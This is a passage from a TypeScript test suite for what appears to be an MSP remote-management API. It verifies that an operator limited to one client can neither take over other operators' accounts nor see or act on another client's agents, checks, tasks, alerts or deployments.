      const list = await t.http.get('/api/v3/operators/').set(asLimited);
      expect(list.body.map((o: { email: string }) => o.email)).toEqual(['alpha@msp.example']);
      const takeover = await t.http.patch(`/api/v3/operators/${unlimited.body.id}/`).set(asLimited).send({ password: 'attacker chosen pw' });
      expect(takeover.status).toBe(404);
      expect((await t.http.post(`/api/v3/operators/${unlimited.body.id}/totp`).set(asLimited)).status).toBe(404);
      const widen = await t.http.patch(`/api/v3/operators/${mine.body.id}/`).set(asLimited).send({ clients: null });
      expect(widen.status).toBe(400);
      expect((await t.http.patch(`/api/v3/operators/${mine.body.id}/`).set(asLimited).send({ role: 'viewer' })).body.role).toBe('viewer');
    });
  });

  it('treats an operator limited to client A as a key limited to A (the services, given its principal)', async () => {
    const operator: Principal = { kind: 'operator', id: 1, name: 'tech@alpha.example', scopes: ROLE_SCOPES.technician, clients: [a.clientId], expiresAt: null, secretHash: null, sessionId: 'session' };
    const clients = clientFilter(operator);
    const app = t.server.app;
    const all = { offset: 0 };
    const [agents] = await app.get(AgentsService).page({}, all, clients);
    expect(agents.map((x) => Number(x.agent_id))).toEqual([...(await agentIdsOf(a.clientId))].sort((x, y) => x - y));
    await expect(app.get(AgentsService).detail(b.agent, clients)).rejects.toMatchObject({ message: 'Not found' });
    await expect(app.get(AgentsService).get(b.agent, clients)).rejects.toMatchObject({ message: 'Not found' });
    await expect(app.get(AgentsService).get(b.agent)).resolves.toMatchObject({ id: b.agent }); // the old signature: every client
    await expect(app.get(ScriptRunsService).start(b.agent, { script: scriptId }, operator)).rejects.toMatchObject({ message: 'Not found' });
    expect((await app.get(ChecksService).list(undefined, all, clients))[0].map((c) => c.id)).not.toContain(b.check);
    await expect(app.get(ChecksService).get(b.check, clients)).rejects.toMatchObject({ message: 'Not found' });
    expect((await app.get(TasksService).list(undefined, all, clients))[0].map((x) => x.id)).not.toContain(b.task);
    await expect(app.get(TasksService).get(b.task, clients)).rejects.toMatchObject({ message: 'Not found' });
    expect((await app.get(AlertsService).list({ resolved: false }, all, clients))[0].map((x) => x.id)).not.toContain(b.alert);
    await expect(app.get(AlertsService).acknowledge(b.alert, operator.name, clients)).rejects.toMatchObject({ message: 'Not found' });
    expect((await app.get(DeploymentsService).listActive(all, clients))[0].map((d) => d.clientId)).toEqual(expect.arrayContaining([a.clientId]));
    expect((await app.get(DeploymentsService).listActive(all, clients))[0].map((d) => d.id)).not.toContain(b.deployment);
    await expect(app.get(DeploymentsService).create({ client: b.clientId, site: b.siteId }, operator)).rejects.toMatchObject({ fields: [{ field: 'client', message: `no client ${b.clientId}` }] });
    expect((await app.get(ClientsService).listPage(all, clients))[0].map((c) => c.id)).toEqual([a.clientId]);
    await expect(app.get(ClientsService).get(b.clientId, clients)).rejects.toMatchObject({ message: 'Not found' });
    // an operator of no client list sees everything
    const everyone = clientFilter({ ...operator, clients: null });
    await expect(app.get(AgentsService).detail(b.agent, everyone)).resolves.toMatchObject({ agent_id: String(b.agent) });
  });
});
